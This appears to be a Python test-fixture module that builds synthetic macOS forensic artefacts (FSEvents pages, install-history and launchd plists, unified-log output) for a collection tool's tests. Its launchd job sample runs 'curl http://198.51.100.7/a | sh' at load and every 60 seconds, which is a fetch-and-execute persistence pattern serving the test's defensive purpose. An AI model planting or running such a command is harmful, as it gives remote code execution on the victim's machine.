"""What macOS writes: changes of a volume, property lists, the unified log as `log show` prints it."""

from __future__ import annotations

import json
import plistlib
import struct
from collections.abc import Sequence
from datetime import timedelta

from tests.collecting.artefact_files import START


def fsevents(records: Sequence[tuple[str, int, int]], *, version: int = 2) -> bytes:
    """A page of paths, numbers and flags."""
    body = b""
    for path, number, flags in records:
        body += path.encode() + b"\0" + struct.pack("<QI", number, flags)
        body += struct.pack("<Q", 77) if version > 1 else b""
        body += bytes(4) if version > 2 else b""
    return struct.pack("<4sII", b"%dSLD" % version, 0, 12 + len(body)) + body


FSEVENTS = fsevents([("Users/alice/x.sh", 9001, 0x800001), ("Users/alice/old", 9002, 0x1000002)]) + fsevents(
    [("private/tmp/a", 9003, 0x800010 | 0x8)]
)
JOB = plistlib.dumps(
    {
        "Label": "com.example.agent",
        "ProgramArguments": ["/bin/sh", "-c", "curl http://198.51.100.7/a | sh"],
        "RunAtLoad": True,
        "StartInterval": 60,
        "Sockets": {"a": 1},
    }
)
WHEN = START.replace(tzinfo=None)
"""As a property list has it: UTC without saying so."""
INSTALLED = [
    {"date": WHEN, "displayName": "Tool", "packageIdentifiers": ["org.example.a", "org.example.b"]},
    {"date": WHEN + timedelta(hours=1), "displayName": "Other", "processName": "installer"},
]
PLIST = plistlib.dumps(INSTALLED, fmt=plistlib.FMT_BINARY)
LOG_DEFAULT = (
    b"Timestamp                       Thread     Type        Activity             PID    TTL  \n"
    b"2021-03-02 07:00:00.123456-0800 0x1a2b     Default     0x0                  812    0    sshd: (libpam.2.dylib)"
    b" [com.openssh.sshd:auth] Authentication failed for root from 203.0.113.9\n"
    b"2021-03-02 07:00:01.000001-0800 0x1a2c     Error       0x99                 0      0    kernel: two\nlines\n"
)
LOG_SYSLOG = (
    b"Timestamp                       (process)[PID]    \n"
    b"2021-03-02 07:00:00.123456-0800  localhost sshd[812]: (libpam.2.dylib) [com.openssh.sshd:auth] Failed\n"
)
LOG_COMPACT = (
    b"Timestamp               Ty Process[PID:TID]\n"
    b"2021-03-02 07:00:00.123 Df sshd[812:1a2b] [com.openssh.sshd:auth] Failed\n"
    b"2021-03-02 07:00:00.124 E  kernel[0:1a2c] (AppleACPIPlatform) panic\n"
)
ENTRY = {
    "traceID": 516096345964545,
    "eventMessage": "Authentication failed for root from 203.0.113.9",
    "eventType": "logEvent",
    "formatString": "%s",
    "subsystem": "com.openssh.sshd",
    "category": "auth",
    "threadID": 6699,
    "processImagePath": "/usr/sbin/sshd",
    "senderImagePath": "/usr/lib/libpam.2.dylib",
    "timestamp": "2021-03-02 07:00:00.123456-0800",
    "machTimestamp": 812,
    "messageType": "Default",
    "processID": 812,
}
LOG_JSON = json.dumps(ENTRY).encode() + b"\n"
MACOS_SAMPLES: dict[str, tuple[str, bytes]] = {
    "macos-fsevents": ("mac1/.fseventsd/0000000000002328", FSEVENTS),
    "macos-plist": ("mac1/Library/Receipts/InstallHistory.plist", PLIST),
    "macos-log": ("mac1/log.txt", LOG_DEFAULT),
    "macos-log-json": ("mac1/log.ndjson", LOG_JSON),
}
